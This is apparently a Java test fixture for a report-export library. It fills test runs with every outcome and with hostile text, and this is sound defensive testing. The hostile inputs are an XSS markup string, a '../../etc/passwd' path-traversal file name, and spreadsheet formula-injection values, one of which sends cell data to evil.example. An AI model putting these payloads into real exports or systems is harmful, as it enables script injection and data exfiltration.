package io.vigie.report.export;

import io.vigie.contracts.Outcome;
import java.util.List;
import java.util.Random;

/** What tests of exports tell: every way in which a test can end, and texts that somebody may have written to do harm. */
final class Hostile {

    static final String MARKUP =
            "</script><script>alert(1)</script><img src=x onerror=alert(1)> ]]> \"quoted' &amp; -->";
    static final String UNWRITABLE = "bell\u0007 nul\0 escape\u001b[31m lone\uD800 end\uFFFF \uDC00";
    static final String LONG = "très long 😀 ".repeat(20_000);
    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1");

    private static final String TROUBLE = "=+-@'\",;<>&]\t\r\n \\/.";

    private Hostile() {}

    static ToldRun.ToldTest test(String id) {
        return new ToldRun.ToldTest(id, "Test " + id);
    }

    /** A run with every outcome, retries, cases, files, and hostile texts in each place that people can write to. */
    static ToldRun everything() {
        ToldRun run = new ToldRun().named("Octobre <2025> \"d'été\" \u0000").ended(Outcome.FAILED);
        run.with(test("passed").ended(Outcome.PASSED, null));
        run.with(new ToldRun.ToldTest("../hostile/\n" + MARKUP, MARKUP + UNWRITABLE)
                .log(UNWRITABLE + MARKUP)
                .ended(Outcome.FAILED, MARKUP + UNWRITABLE)
                .file(1, "../../etc/passwd\n" + MARKUP, "text/html", "runs/x/hostile"));
        run.with(test("long").log(LONG).ended(Outcome.BROKEN, LONG));
        run.with(test("timed-out").after(Outcome.FAILED, "first").ended(Outcome.TIMED_OUT, "too slow"));
        run.with(test("interrupted").afterLoss().ended(Outcome.INTERRUPTED, "lost"));
        run.with(test("skipped").skipped("Test ignoré après un échec précédent"));
        run.with(test("cancelled").ended(Outcome.CANCELLED, "annulé"));
        run.with(test("flaky")
                .after(Outcome.FAILED, "503")
                .after(Outcome.BROKEN, "boom")
                .ended(Outcome.PASSED, null));
        run.with(test("after-loss").afterLoss().ended(Outcome.PASSED, null));
        run.with(test("quarantined").quarantined().ended(Outcome.FAILED, "known"));
        run.with(test("pytest")
                .reported("tests/test_a.py", "test_one", Outcome.PASSED, null)
                .reported("tests/test_a.py", "test_" + MARKUP + UNWRITABLE, Outcome.FAILED, MARKUP)
                .reported("tests/test_a.py", "test_three", Outcome.SKIPPED, "not today")
                .reported("tests/test_a.py", "test_four", Outcome.BROKEN, "error")
                .file(1, "trace.zip", "application/zip", "runs/x/trace")
                .ended(Outcome.FAILED, "2 cases did not pass"));
        run.with(test("junit-timeout")
                .reported("com.example.A", "works", Outcome.PASSED, null)
                .ended(Outcome.TIMED_OUT, "killed after a minute"));
        int at = 0;
        for (String formula : FORMULAS) {
            run.with(new ToldRun.ToldTest("formula-" + ++at, formula).ended(Outcome.FAILED, formula));
        }
        return run;
    }

    /** Any text, with more of what makes trouble than people write. */
    static String anyText(Random random) {
        int[] points = random.ints(random.nextInt(30), 0, 4)
                .map(kind -> switch (kind) {
                    case 0 -> random.nextInt(0x20);
                    case 1 -> TROUBLE.charAt(random.nextInt(TROUBLE.length()));
                    case 2 -> 0xD700 + random.nextInt(0x2900);
                    default -> random.nextInt(Character.MAX_CODE_POINT + 1);
                })
                .toArray();
        return new String(points, 0, points.length);
    }
}
